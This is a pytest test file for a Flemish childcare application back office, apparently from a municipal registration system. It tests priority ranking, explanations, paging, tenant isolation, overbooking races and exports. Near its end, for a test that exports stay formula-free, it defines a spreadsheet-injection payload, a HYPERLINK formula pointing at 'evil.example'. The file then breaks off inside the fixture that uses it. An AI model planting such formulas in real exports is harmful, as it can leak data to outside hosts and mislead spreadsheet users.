"""The provider back office: ranked and explained lists, actions, no overbooking, free places,
profile, exports — and staff of one location never reach another's applications."""

import csv
import io
import re
import threading
import uuid
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from regional_loket.applications import (
    Application,
    LifecycleError,
    PriorityPolicy,
    Status,
    queries,
    ranking,
)
from regional_loket.applications import services as applications
from regional_loket.catalog.models import (
    Availability,
    CatalogAvailability,
    CatalogLocation,
    Location,
)
from regional_loket.database import utcnow
from regional_loket.extensions import db
from regional_loket.months import add_months
from regional_loket.provider import services as provider
from regional_loket.tenancy import tenant_scope

from . import factories
from .conftest import hand_over, host_url, login
from .test_requests import START, TODAY, _application, _submit, world  # noqa: F401 — fixture

# --- ranking properties, against the database ----------------------------------------------------

FLAGS = ("needs_care_for_work", "single_parent", "low_income", "foster_child", "sibling_here")
BEFORE_2024 = ["care_for_work", "single_parent", "low_income", "foster_child", "sibling_here"]
OF_2024 = ["care_for_work", "sibling_here", "foster_child", "single_parent", "low_income"]
# The test's own reading of the rules: which declaration answers which criterion, and the labels.
DECLARED_BY = dict(zip(BEFORE_2024, FLAGS, strict=True))
OWN = {"code": "kind-van-een-personeelslid", "label": "Kind van een personeelslid"}
T0 = datetime(2026, 1, 1, tzinfo=UTC)
MONTHS = (START, add_months(START, 1))
PROPERTY = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=30)


@pytest.fixture
def place(make_tenant, make_location):
    """An income-tariff location with one criterion of its own (its tenant, its id)."""
    tenant = make_tenant()
    location = make_location(tenant, extra_criteria=[OWN])
    return tenant, location.id


def _row(location_id, *, declarations=None, flags=None, minutes=0, id=None, month=START, group="baby",
         status=Status.SUBMITTED, first_name="Kind", last_name="Test", care_plan=None, snapshot=None) -> Application:
    return Application(
        id=id or uuid.uuid4(), request_id=uuid.uuid4(), location_id=location_id, rank=1, status=status,
        snapshot=snapshot if snapshot is not None else {
            "declarations": declarations or {}, "care_plan": care_plan or {"1": "full"},
            "child": {"first_name": first_name, "last_name": last_name}},
        submitted_at=T0 + timedelta(minutes=minutes), start_month=month, age_group=group, flags=flags or {})


@contextmanager
def _inserted(place, rows):
    """The rows inserted in a savepoint, with the place's tenant bound; rolled back afterwards.
    Yields the location (read inside the savepoint: the rollback expires what it touched)."""
    tenant, location_id = place
    savepoint = db.session.begin_nested()
    try:
        with tenant_scope(db.session, tenant):
            db.session.add_all(rows)
            db.session.flush()
            yield db.session.get(Location, location_id)
    finally:
        savepoint.rollback()


def _oracle(specs, criteria) -> list[tuple]:
    """The order the rules prescribe, computed here: per list (month, age group), criteria met
    in order (only a JSON true counts), then submission time, then id; as (list, id) pairs."""

    def met(spec, criterion):
        if criterion in DECLARED_BY:
            declarations = spec["declarations"]
            return isinstance(declarations, dict) and declarations.get(DECLARED_BY[criterion]) is True
        return spec["flags"].get(criterion) is True

    return [((s["month"], s["group"]), s["id"]) for s in sorted(specs, key=lambda s: (
        s["month"], s["group"], tuple(not met(s, c) for c in criteria), s["minutes"], str(s["id"])))]


def _from(location_id, spec) -> Application:
    snapshot = {"declarations": spec["declarations"], "child": {"first_name": "Kind", "last_name": "Test"}}
    return _row(location_id, id=spec["id"], flags=spec["flags"], minutes=spec["minutes"], month=spec["month"],
                group=spec["group"], snapshot=snapshot)


def _order(ranked) -> list[tuple]:
    return [((r.application.start_month, r.application.age_group), r.application.id) for r in ranked]


# Mostly booleans and missing keys; now and then what no form would write.
malformed = st.one_of(st.none(), st.integers(-2, 2), st.sampled_from(["true", "ja", "", "1"]),
                      st.lists(st.booleans(), max_size=2), st.just({"value": True}))
declaration_values = st.one_of(st.booleans(), st.booleans(), st.booleans(), malformed)
specs = st.lists(st.fixed_dictionaries({
    "id": st.uuids(),
    "declarations": st.one_of(st.dictionaries(st.sampled_from(FLAGS), declaration_values, max_size=5),
                              st.sampled_from(["ja", 1, [True]])),
    "flags": st.one_of(st.just({}), st.fixed_dictionaries({OWN["code"]: declaration_values})),
    "minutes": st.integers(0, 6),  # few distinct times: ties are common
    "month": st.sampled_from(MONTHS),
    "group": st.sampled_from(["baby", "toddler"]),
}), max_size=20, unique_by=lambda s: s["id"])


@PROPERTY
@given(specs)
def test_ranking_is_deterministic(place, items):
    with _inserted(place, [_from(place[1], s) for s in items]) as location:
        once = ranking.all_lists(db.session, location, today=TODAY)
        once = [(r.application.id, r.position, r.explanation) for r in once]
    with _inserted(place, [_from(place[1], s) for s in reversed(items)]) as location:
        again = ranking.all_lists(db.session, location, today=TODAY)
        positions = {}
        for r in again:
            positions.setdefault((r.application.start_month, r.application.age_group), []).append(r.position)
        again = [(r.application.id, r.position, r.explanation) for r in again]
    assert once == again
    assert all(p == list(range(1, len(p) + 1)) for p in positions.values())
    assert sum(len(p) for p in positions.values()) == len(items)


@PROPERTY
@given(specs)
def test_a_higher_tier_always_ranks_first_and_ties_go_by_submission_then_id(place, items):
    with _inserted(place, [_from(place[1], s) for s in items]) as location:
        ranked = ranking.all_lists(db.session, location, today=TODAY)
        assert _order(ranked) == _oracle(items, BEFORE_2024 + [OWN["code"]])
        for before, after in zip(ranked, ranked[1:], strict=False):
            if (before.application.start_month, before.application.age_group, before.met) == (
                    after.application.start_month, after.application.age_group, after.met):
                assert (before.application.submitted_at, str(before.application.id)) < (
                    after.application.submitted_at, str(after.application.id))


@PROPERTY
@given(specs)
def test_every_place_is_explained(place, items):
    names = {**{c: str(ranking.CRITERIA[c]) for c in BEFORE_2024}, OWN["code"]: OWN["label"]}
    with _inserted(place, [_from(place[1], s) for s in items]) as location:
        for r in ranking.all_lists(db.session, location, today=TODAY):
            assert r.explanation.startswith(f"Plaats {r.position}.")
            assert r.reasons == tuple(names[c] for c in r.met)
            for criterion in r.met:
                assert names[criterion] in r.explanation
            if not r.met:
                assert "Voldoet aan geen voorrangsregel" in r.explanation
            # The family's and the application page's view: the same place, the same words.
            assert ranking.explain(db.session, r.application, today=TODAY) == r


@PROPERTY
@given(specs)
def test_a_change_of_policy_version_reranks_as_specified(place, items):
    with _inserted(place, [_from(place[1], s) for s in items]) as location:
        db.session.add(PriorityPolicy(code="flemish_next", name={"nl": "Volgende"}, criteria=OF_2024,
                                      effective_from=TODAY + timedelta(days=30), tie_break="submitted_at",
                                      annulled=False))
        db.session.flush()
        now = ranking.all_lists(db.session, location, today=TODAY)
        later = ranking.all_lists(db.session, location, today=TODAY + timedelta(days=30))
        assert _order(now) == _oracle(items, BEFORE_2024 + [OWN["code"]])
        assert _order(later) == _oracle(items, OF_2024 + [OWN["code"]])


def test_a_sibling_overtakes_a_single_parent_when_the_2024_order_applies(place):
    sibling_id, single_id = uuid.uuid4(), uuid.uuid4()
    rows = [_row(place[1], id=sibling_id, declarations={"sibling_here": True}, minutes=1),
            _row(place[1], id=single_id, declarations={"single_parent": True}, minutes=2)]
    with _inserted(place, rows) as location:
        before = ranking.all_lists(db.session, location, today=TODAY)
        db.session.add(PriorityPolicy(code="flemish_next", name={"nl": "Volgende"}, criteria=OF_2024,
                                      effective_from=TODAY + timedelta(days=1), tie_break="submitted_at",
                                      annulled=False))
        db.session.flush()
        after = ranking.all_lists(db.session, location, today=TODAY + timedelta(days=1))
    assert [r.application.id for r in before] == [single_id, sibling_id]
    assert [r.application.id for r in after] == [sibling_id, single_id]


@PROPERTY
@given(st.lists(st.tuples(malformed, malformed), min_size=1, max_size=10))
def test_a_malformed_declaration_neither_raises_nor_counts(place, values):
    rows = [_row(place[1], declarations=dict.fromkeys(FLAGS, declared), flags={OWN["code"]: flagged},
                 minutes=minutes) for minutes, (declared, flagged) in enumerate(values)]
    rows.append(_row(place[1], snapshot={"declarations": "ja"}, minutes=len(values)))
    rows.append(_row(place[1], snapshot={}, flags=None, minutes=len(values) + 1))
    ids = [row.id for row in rows]
    with _inserted(place, rows) as location:
        ranked = ranking.all_lists(db.session, location, today=TODAY)
        page, total = ranking.list_page(db.session, location, START, "baby", today=TODAY)
    assert [r.application.id for r in ranked] == ids  # submission order: nobody meets anything
    assert all(not r.met and "Voldoet aan geen voorrangsregel" in r.explanation for r in ranked)
    assert total == len(ids) and [r.application.id for r in page] == ids


def test_policy_in_force_by_date(app):
    assert ranking.policy_in_force(db.session, date(2023, 5, 1)).code == "flemish_before_2024"
    # The 2024 rules were annulled: their period falls back to the older rules.
    assert ranking.policy_in_force(db.session, date(2024, 10, 1)).code == "flemish_before_2024"
    current = ranking.policy_in_force(db.session, TODAY)
    assert current.code == "flemish_before_2024" and current.criteria == BEFORE_2024
    assert db.session.scalar(sa.select(sa.func.count()).select_from(PriorityPolicy).where(
        PriorityPolicy.annulled.is_(True))) == 1


def test_free_price_locations_rank_by_their_own_criteria_only():
    location = Location(tariff="free", extra_criteria=[{"code": "staff_child", "label": "kind van personeel"}])
    policy = PriorityPolicy(criteria=BEFORE_2024)
    assert ranking.criteria_for(location, policy) == ["staff_child"]
    location.tariff = "income"
    assert ranking.criteria_for(location, policy) == BEFORE_2024 + ["staff_child"]


def test_filters_keep_the_places_in_the_whole_list(place):
    rows = [_row(place[1], minutes=n, first_name="Kind", last_name=f"Nummer{n}",
                 status=Status.WAITLISTED if n % 2 else Status.SUBMITTED,
                 care_plan={"1": "full", "3": "half" if n % 3 == 0 else "none"}) for n in range(1, 11)]
    rows[6].snapshot = {**rows[6].snapshot, "child": {"first_name": "Zoë", "last_name": "Van_den%Berg"}}
    with _inserted(place, rows) as location:
        def shown(**filters):
            page, total = ranking.list_page(db.session, location, START, "baby", today=TODAY, **filters)
            assert total == len(page)
            return [r.position for r in page]

        assert shown() == list(range(1, 11))
        assert shown(name="zoë van_DEN%b") == [7]  # the 7th, not the 1st of what is shown
        assert shown(name="n_mmer") == [] and shown(name="%") == [7] and shown(name="_") == [7]
        assert shown(name="kind nummer1") == [1, 10]
        assert shown(status=Status.WAITLISTED) == [1, 3, 5, 7, 9]
        assert shown(day="3") == [3, 6, 9] and shown(day="2") == []
        assert shown(status=Status.SUBMITTED, day="3") == [6]
        page, total = ranking.list_page(db.session, location, START, "baby", today=TODAY, offset=3, limit=3)
        assert [r.position for r in page] == [4, 5, 6] and total == 10
        page, total = ranking.list_page(db.session, location, START, "baby", today=TODAY, status=Status.WAITLISTED,
                                        offset=50, limit=50)
        assert page == [] and total == 5  # past the end: still the number there is


@pytest.fixture
def long_list(app, place, make_user):
    """120 applications in one list of the place, and its staff logged in on its host."""
    tenant, location_id = place
    with tenant_scope(db.session, tenant):
        db.session.add_all([_row(location_id, minutes=n, first_name="Kind", last_name=f"N{n:03d}",
                                 status=Status.SUBMITTED if n % 4 else Status.IN_REVIEW)
                            for n in range(1, 121)])
    staff = make_user("provider_staff", tenant=tenant, locations=[location_id])
    return _client_on(app, staff, tenant), tenant, location_id


def _positions(html: str) -> list[int]:
    return [int(n) for n in re.findall(r'<tr class="utrecht-table__row">\s*<td class="utrecht-table__cell">(\d+)</td>',
                                       html)]


def test_the_ranked_list_comes_in_pages_of_fifty(long_list):
    client, tenant, location_id = long_list
    path = f"/opvang/{location_id}/"

    def page(**query):
        response = client.get(path, query_string=query, base_url=host_url(tenant))
        assert response.status_code == 200
        return response.get_data(as_text=True)

    first = page()
    assert _positions(first) == list(range(1, 51)) and "Pagina 1 van 3" in first
    assert "Vorige" not in first and "Volgende" in first
    second = page(pagina=2)
    assert _positions(second) == list(range(51, 101)) and "Pagina 2 van 3" in second
    assert "Plaats 51. Voldoet aan geen voorrangsregel" in second
    for beyond in (3, 4, 999999999999999999999):
        last = page(pagina=beyond)
        assert _positions(last) == list(range(101, 121)) and "Pagina 3 van 3" in last and "Volgende" not in last
    for odd in ("0", "-2", "twee", ""):
        assert _positions(page(pagina=odd)) == list(range(1, 51))
    # Filtered: positions stay those of the whole list; past the filtered end, its last page.
    reviewed = page(status="in_review", pagina=2)
    assert _positions(reviewed) == list(range(4, 121, 4)) and "Pagina 1 van" not in reviewed


def test_the_pager_keeps_the_list_and_its_filters(long_list):
    client, tenant, location_id = long_list
    html = client.get(f"/opvang/{location_id}/", query_string={
        "maand": START.strftime("%Y-%m"), "groep": "baby", "status": "submitted", "dag": "1", "q": "kind n",
        "pagina": 2}, base_url=host_url(tenant)).get_data(as_text=True)
    # 90 submitted of 120: two pages; the second holds the 51st to the 90th of them.
    submitted = [n for n in range(1, 121) if n % 4]
    assert _positions(html) == submitted[50:] and "Pagina 2 van 2" in html
    links = re.findall(r'href="([^"]*pagina=[^"]*)"', html)
    assert len(links) == 1  # Vorige only
    query = parse_qs(urlsplit(links[0].replace("&amp;", "&")).query)
    assert query == {"maand": [START.strftime("%Y-%m")], "groep": ["baby"], "status": ["submitted"], "dag": ["1"],
                     "q": ["kind n"], "pagina": ["1"]}


def test_the_export_names_the_providers_own_criteria(app, place, make_user):
    tenant, location_id = place
    with tenant_scope(db.session, tenant):
        db.session.add_all([
            _row(location_id, minutes=1, first_name="Eerste", declarations={"needs_care_for_work": True}),
            _row(location_id, minutes=2, first_name="Tweede", declarations={"needs_care_for_work": True},
                 flags={OWN["code"]: True}, month=MONTHS[1])])
    client = _client_on(app, make_user("provider_staff", tenant=tenant, locations=[location_id]), tenant)
    response = client.get(f"/opvang/{location_id}/export.csv", base_url=host_url(tenant))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    column = rows[0].index("voorrang")
    assert [(r[0], r[2], r[column]) for r in rows[1:]] == [
        ("1", "Eerste", str(ranking.CRITERIA["care_for_work"])),
        ("1", "Tweede", f"{ranking.CRITERIA['care_for_work']}, Kind van een personeelslid")]
    assert OWN["code"] not in response.get_data(as_text=True)


# --- the back office ---------------------------------------------------------------------------


@pytest.fixture
def staffed(world, make_user):  # noqa: F811
    herent, leuven = world["tenants"]["herent"], world["tenants"]["leuven"]
    h1, h2 = world["places"]["h1"], world["places"]["h2"]
    return {
        "h1_staff": make_user("provider_staff", tenant=herent, locations=[h1.id]),
        "h2_staff": make_user("provider_staff", tenant=herent, locations=[h2.id]),
        "leuven_staff": make_user("provider_staff", tenant=leuven, locations=[world["places"]["l1"].id]),
        "coordinator": make_user("coordinator", tenant=herent),
    }


def _client_on(app, user, tenant):
    client = app.test_client()
    login(client, user)
    hand_over(client, tenant, "/opvang/")
    return client


def test_staff_see_the_ranked_list_with_explanations_and_offer(app, world, staffed):  # noqa: F811
    care = _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    h1_id = h1.id
    client = _client_on(app, staffed["h1_staff"], herent)
    home = client.get("/opvang/", base_url=host_url(herent)).get_data(as_text=True)
    assert "Kinderdagverblijf De Zonnebloem" in home and "Onthaalouder Els" not in home
    inbox = client.get(f"/opvang/{h1.id}/", base_url=host_url(herent)).get_data(as_text=True)
    assert "Lien Peeters" in inbox and "Plaats 1. Voldoet aan: opvang nodig voor werk" in inbox
    application_id = care.choices[0].application_id
    page = client.get(f"/opvang/{h1.id}/aanvragen/{application_id}", base_url=host_url(herent))
    assert page.status_code == 200 and "Plaats aanbieden" in page.get_data(as_text=True)
    _, application = _application(world, care.choices[0])
    offered = client.post(f"/opvang/{h1.id}/aanvragen/{application_id}", data={
        "action": "offer", "version": application.version, "month": START.strftime("%Y-%m"),
        "deadline": (TODAY + timedelta(days=5)).isoformat()}, base_url=host_url(herent))
    assert offered.status_code == 302
    db.session.expire_all()
    with tenant_scope(db.session, herent):
        application = db.session.get(Application, application_id)
        assert application.status == Status.OFFERED and application.offer_deadline == TODAY + timedelta(days=5)
        assert db.session.scalar(sa.select(Availability.free_places).where(Availability.location_id == h1_id)) == 0
    assert db.session.scalar(sa.select(CatalogAvailability.free_places).where(
        CatalogAvailability.location_id == h1_id)) == 0  # the catalog follows in the same transaction


@pytest.mark.parametrize("who", ["h2_staff", "leuven_staff"])
def test_staff_of_another_location_cannot_open_act_on_or_export(app, world, staffed, who):  # noqa: F811
    care = _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    tenant = herent if who == "h2_staff" else world["tenants"]["leuven"]
    client = _client_on(app, staffed[who], tenant)
    application_id = care.choices[0].application_id
    for path in (f"/opvang/{h1.id}/", f"/opvang/{h1.id}/aanvragen/{application_id}", f"/opvang/{h1.id}/export.csv",
                 f"/opvang/{h1.id}/export.xlsx", f"/opvang/{h1.id}/vrije-plaatsen", f"/opvang/{h1.id}/profiel"):
        assert client.get(path, base_url=host_url(tenant)).status_code in (403, 404), path
    acted = client.post(f"/opvang/{h1.id}/aanvragen/{application_id}", data={"action": "review", "version": 1},
                        base_url=host_url(tenant))
    assert acted.status_code in (403, 404)
    _, application = _application(world, care.choices[0])
    assert application.status == Status.SUBMITTED


def test_an_application_of_another_location_is_not_found_through_ones_own(app, world, staffed):  # noqa: F811
    care = _submit(world, "h1")
    herent, h2 = world["tenants"]["herent"], world["places"]["h2"]
    client = _client_on(app, staffed["h2_staff"], herent)
    path = f"/opvang/{h2.id}/aanvragen/{care.choices[0].application_id}"
    assert client.get(path, base_url=host_url(herent)).status_code == 404


def test_coordinator_sees_every_location_of_the_municipality(app, world, staffed):  # noqa: F811
    client = _client_on(app, staffed["coordinator"], world["tenants"]["herent"])
    home = client.get("/opvang/", base_url=host_url(world["tenants"]["herent"])).get_data(as_text=True)
    assert "De Zonnebloem" in home and "Onthaalouder Els" in home


def test_bad_actions_are_explained_and_change_nothing(world):  # noqa: F811
    care = _submit(world, "h1")
    tenant, application = _application(world, care.choices[0])
    with pytest.raises(LifecycleError, match="verleden"):
        applications.offer(db.session, tenant, application, deadline=TODAY - timedelta(days=1), actor_id=None,
                       now=utcnow(), today=TODAY)
    with pytest.raises(LifecycleError, match="geen vrije plaats"):
        applications.offer(db.session, tenant, application, month=date(START.year + 1, START.month, 1), deadline=None,
                       actor_id=None, now=utcnow(), today=TODAY)
    with pytest.raises(LifecycleError, match="Kies een reden"):
        applications.reject(db.session, tenant, application, reason="", text=None, actor_id=None, now=utcnow())
    with pytest.raises(LifecycleError, match="Licht de reden toe"):
        applications.reject(db.session, tenant, application, reason="other", text=" ", actor_id=None, now=utcnow())
    with pytest.raises(LifecycleError, match="gewijzigd"):
        applications.waitlist(db.session, tenant, application, actor_id=None, now=utcnow(), version=application.version - 1)
    assert application.status == Status.SUBMITTED and application.reject_reason is None


def test_stale_page_gets_a_clear_message(app, world, staffed):  # noqa: F811
    care = _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    client = _client_on(app, staffed["h1_staff"], herent)
    path = f"/opvang/{h1.id}/aanvragen/{care.choices[0].application_id}"
    version = _application(world, care.choices[0])[1].version  # what both pages showed
    first = client.post(path, data={"action": "review", "version": version}, base_url=host_url(herent))
    assert first.status_code == 302, first.get_data(as_text=True)[-2000:]
    stale = client.post(path, data={"action": "waitlist", "version": version}, base_url=host_url(herent))
    assert stale.status_code == 409 and "intussen gewijzigd" in stale.get_data(as_text=True)


def test_rejection_needs_a_reason_in_the_page(app, world, staffed):  # noqa: F811
    care = _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    client = _client_on(app, staffed["h1_staff"], herent)
    path = f"/opvang/{h1.id}/aanvragen/{care.choices[0].application_id}"
    version = _application(world, care.choices[0])[1].version
    refused = client.post(path, data={"action": "reject", "version": version, "reason": ""}, base_url=host_url(herent))
    assert refused.status_code == 422 and "Kies een reden" in refused.get_data(as_text=True)
    done = client.post(path, data={"action": "reject", "version": version, "reason": "no_place", "text": "Volzet."},
                       base_url=host_url(herent))
    assert done.status_code == 302, re.findall(r"alert__message[^>]*>([^<]*)", done.get_data(as_text=True))
    db.session.expire_all()
    assert db.session.get(type(care.choices[0]), care.choices[0].id).status == "rejected"


def test_free_places_grid(app, world, staffed):  # noqa: F811
    care = _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    h1_id = h1.id
    tenant, application = _application(world, care.choices[0])
    applications.offer(db.session, tenant, application, deadline=None, actor_id=None, now=utcnow(), today=TODAY)
    db.session.flush()
    client = _client_on(app, staffed["h1_staff"], herent)
    page = client.get(f"/opvang/{h1.id}/vrije-plaatsen", base_url=host_url(herent)).get_data(as_text=True)
    assert "1 aangeboden" in page
    key = f"{START:%Y-%m}-baby"
    below = client.post(f"/opvang/{h1.id}/vrije-plaatsen", data={key: "0"}, base_url=host_url(herent))
    assert below.status_code == 422 and "al aangeboden" in below.get_data(as_text=True)
    too_many = client.post(f"/opvang/{h1.id}/vrije-plaatsen", data={key: "999"}, base_url=host_url(herent))
    assert too_many.status_code == 422
    not_a_number = client.post(f"/opvang/{h1.id}/vrije-plaatsen", data={key: "drie"}, base_url=host_url(herent))
    assert not_a_number.status_code == 422
    saved = client.post(f"/opvang/{h1.id}/vrije-plaatsen", data={key: "4"}, base_url=host_url(herent))
    assert saved.status_code == 302
    db.session.expire_all()  # h1 is expired too: reloading it would need Herent bound
    assert db.session.scalar(sa.select(CatalogAvailability.free_places).where(
        CatalogAvailability.location_id == h1_id, CatalogAvailability.month == START,
        CatalogAvailability.age_group == "baby")) == 3  # 4 minus the one held by the offer


@pytest.mark.parametrize("digits", ["\u00b2", "\u0663", "\uff13", "3\u0663", "-1", "1_0"])
def test_free_places_grid_accepts_ascii_digits_only(app, world, staffed, digits):  # noqa: F811
    """'²' used to answer 500 (str.isdigit() says yes, int() says no) and '٣' was saved as 3."""
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    h1_id = h1.id
    client = _client_on(app, staffed["h1_staff"], herent)
    key = f"{START:%Y-%m}-baby"
    refused = client.post(f"/opvang/{h1_id}/vrije-plaatsen", data={key: digits}, base_url=host_url(herent))
    assert refused.status_code == 422
    assert "vul een geheel getal in" in refused.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(sa.select(CatalogAvailability.free_places).where(
        CatalogAvailability.location_id == h1_id, CatalogAvailability.month == START,
        CatalogAvailability.age_group == "baby")) == 1  # as the world made it


@pytest.mark.parametrize("value", ["\u0663\u0660", "\u00b2", "NaN", "Infinity"])
def test_profile_numbers_accept_ascii_digits_only(app, world, staffed, value):  # noqa: F811
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    h1_id = h1.id
    client = _client_on(app, staffed["coordinator"], herent)
    data = {"opens_at": "07:00", "closes_at": "18:00", "languages": "nl", "tariff": "free", "day_price": value,
            "licensed_places": value}
    response = client.post(f"/opvang/{h1_id}/profiel", data=data, base_url=host_url(herent))
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "Vul een geheel getal in, met de cijfers 0 tot 9." in html
    assert "Vul een getal in met de cijfers 0 tot 9, bv. 39.50." in html
    db.session.expire_all()
    assert db.session.scalar(sa.select(CatalogLocation.licensed_places).where(CatalogLocation.location_id == h1_id)) == 18


def test_profile_editing_reaches_the_catalog(app, world, staffed):  # noqa: F811
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    client = _client_on(app, staffed["h1_staff"], herent)
    form = {"description_nl": "Nieuw", "description_fr": "Nouveau", "description_en": "", "opens_at": "06:45",
            "closes_at": "18:30", "closures": "2027-07-19 2027-08-06 zomer", "languages": "nl, fr",
            "tariff": "free", "day_price": "35.50", "licensed_places": "21", "phone": "", "email": "", "website": "",
            "accepts_online": "y"}
    bad = client.post(f"/opvang/{h1.id}/profiel", data={**form, "opens_at": "19:00"}, base_url=host_url(herent))
    assert bad.status_code == 422
    assert client.post(f"/opvang/{h1.id}/profiel", data={**form, "languages": "nederlands"},
                       base_url=host_url(herent)).status_code == 422
    assert client.post(f"/opvang/{h1.id}/profiel", data=form, base_url=host_url(herent)).status_code == 302
    row = db.session.get(CatalogLocation, h1.id, populate_existing=True)
    assert row.tariff == "free" and str(row.day_price) == "35.50" and row.languages == ["nl", "fr"]


def test_exports(app, world, staffed):  # noqa: F811
    _submit(world, "h1")
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    client = _client_on(app, staffed["h1_staff"], herent)
    response = client.get(f"/opvang/{h1.id}/export.csv", base_url=host_url(herent))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["positie", "status", "voornaam"] and rows[1][2:4] == ["Lien", "Peeters"]
    xlsx = client.get(f"/opvang/{h1.id}/export.xlsx", base_url=host_url(herent))
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet["C2"].value == "Lien" and sheet["A2"].value == 1


def test_vulnerable_share(world):  # noqa: F811
    care = _submit(world, "h1")
    world["family"].low_income = True
    tenant, application = _application(world, care.choices[0])
    applications.offer(db.session, tenant, application, deadline=None, actor_id=None, now=utcnow(), today=TODAY)
    provider.record_phone_acceptance(db.session, tenant, application, actor_id=None, now=utcnow(), today=TODAY)
    with tenant_scope(db.session, tenant):
        assert queries.vulnerable_share(db.session, None, year=TODAY.year) == (0, 1)  # declared low income later


# --- no overbooking: the last place, two staff at once -----------------------------------------


def test_two_staff_offering_the_last_place_at_once_one_wins(committed):
    app, slugs = committed(1)
    with app.app_context():
        from regional_loket.accounts import services as accounts
        from regional_loket.tenancy import services as tenancy

        tenant = tenancy.get_tenant(db.session, slugs[0])
        place_id = factories.make_location(db.session, tenant, "Laatste Plaats", free={(START, "baby"): 1}).id
        ids = []
        for n in range(2):
            _user, family = factories.make_family(db.session, email=f"race{n}-{slugs[0]}@example.be", name="R")
            child = factories.make_child(db.session, family, first_name=f"Kind{n}", last_name="Race",
                                         birth_date=TODAY - timedelta(days=200))
            care = factories.make_request(db.session, family, child, locations=[place_id], flexibility_weeks=0,
                                          care_plan={"1": "full"})
            ids.append(care.choices[0].application_id)
        db.session.commit()

    barrier = threading.Barrier(2)
    outcomes = []

    def offer(application_id):
        with app.app_context():
            t = tenancy.get_tenant(db.session, slugs[0])
            with tenant_scope(db.session, t):
                application = db.session.get(Application, application_id)
            barrier.wait()
            try:
                applications.offer(db.session, t, application, deadline=None, actor_id=None, now=utcnow(), today=TODAY)
                db.session.commit()
                outcomes.append("offered")
            except LifecycleError as error:
                db.session.rollback()
                outcomes.append(str(error.message))
            finally:
                db.session.remove()

    threads = [threading.Thread(target=offer, args=(i,)) for i in ids]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    assert sorted(outcomes)[1] == "offered" and "geen vrije plaats" in sorted(outcomes)[0]
    with app.app_context():
        t = tenancy.get_tenant(db.session, slugs[0])
        with tenant_scope(db.session, t):
            assert db.session.scalar(sa.select(Availability.free_places).where(
                Availability.location_id == place_id)) == 0
            assert sorted(db.session.scalars(sa.select(Application.status))) == ["offered", "submitted"]
        from regional_loket.families.models import Family
        from regional_loket.notifications.models import Notification

        # Committed rows: leave nothing for the tests that run after this one.
        pattern = f"race%-{slugs[0]}@example.be"
        db.session.execute(sa.delete(Notification).where(Notification.recipient_email.like(pattern)))
        db.session.execute(sa.delete(Family).where(Family.guardians.any(
            sa.text(f"shared.guardians.email LIKE '{pattern}'"))))
        db.session.execute(sa.delete(accounts.User).where(accounts.User.email.like(pattern)))
        db.session.commit()


def test_offers_past_their_deadline_expire_and_free_their_place(app, world):  # noqa: F811
    from regional_loket.applications.jobs import expire_offers_now

    care = _submit(world, "h1")
    tenant, application = _application(world, care.choices[0])
    applications.offer(db.session, tenant, application, deadline=TODAY, actor_id=None, now=utcnow(), today=TODAY)
    db.session.flush()
    assert expire_offers_now(app, "herent", today=TODAY) == 0  # the deadline day itself still counts
    assert expire_offers_now(app, "herent", today=TODAY + timedelta(days=1)) == 1
    db.session.expire_all()
    with tenant_scope(db.session, world["tenants"]["herent"]):
        assert db.session.scalar(sa.select(Application.status)) == "expired"
        assert db.session.scalar(sa.select(Availability.free_places)) == 1


def test_provider_criteria_come_after_the_regions_and_are_explained(app, world, staffed):  # noqa: F811
    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
    first = _submit(world, "h1")  # needs care for work (the region's first criterion)
    from regional_loket.families import services as families

    world["family"].needs_care_for_work = False
    world["child"] = families.add_child(db.session, world["family"], first_name="Tweede", last_name="Peeters",
                                        birth_date=world["child"].birth_date, due_date=None, national_number=None,
                                        pepper="p", today=TODAY)
    second = _submit(world, "h1")  # submitted later, meets nothing of the region's
    client = _client_on(app, staffed["h1_staff"], herent)
    profile = {"description_nl": "", "description_fr": "", "description_en": "", "opens_at": "07:00",
               "closes_at": "18:00", "closures": "", "languages": "nl", "tariff": "income", "day_price": "",
               "licensed_places": "18", "phone": "", "email": "", "website": "", "accepts_online": "y",
               "extra_criteria": "Kind van een personeelslid"}
    assert client.post(f"/opvang/{h1.id}/profiel", data=profile, base_url=host_url(herent)).status_code == 302
    path = f"/opvang/{h1.id}/aanvragen/{second.choices[0].application_id}"
    version = _application(world, second.choices[0])[1].version
    marked = client.post(path, data={"action": "flags", "version": version, "flag": "kind-van-een-personeelslid"},
                         base_url=host_url(herent))
    assert marked.status_code == 302
    inbox = client.get(f"/opvang/{h1.id}/", base_url=host_url(herent)).get_data(as_text=True)
    # Still second: the region's criteria come before the provider's own.
    assert inbox.index("Lien Peeters") < inbox.index("Tweede Peeters")
    assert "Plaats 2. Voldoet aan: Kind van een personeelslid." in inbox
    family = app.test_client()
    login(family, world["parent"])
    page = family.get(f"/aanvragen/{first.id}", base_url=host_url()).get_data(as_text=True)
    assert "Plaats 1. Voldoet aan: opvang nodig voor werk" in page


# --- exports: no formula reaches a spreadsheet ---------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x","klik")'


@pytest.fixture
def hostile_export(app, place, make_user):
    """Two applications whose names and phone are formulas, and the place's staff logged in."""
    tenant, location_id = place
